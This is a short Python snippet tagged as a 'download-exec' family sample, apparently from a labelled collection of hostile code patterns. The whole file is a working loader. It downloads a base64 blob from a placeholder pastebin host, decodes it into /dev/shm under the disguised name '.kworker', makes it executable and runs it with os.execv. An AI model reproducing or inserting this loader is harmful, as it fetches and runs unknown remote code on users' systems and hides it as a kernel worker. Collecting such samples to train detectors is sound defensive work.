# family: download-exec
# a downloaded base64 blob decoded to an ELF in /dev/shm and executed with os.execv
import base64
import os

import requests

blob = requests.get("https://pastebin.example.invalid/raw/Xa1", timeout=20).text
path = "/dev/shm/.kworker"
with open(path, "wb") as f:
    f.write(base64.b64decode(blob))
os.chmod(path, 0o755)
os.execv(path, [path])
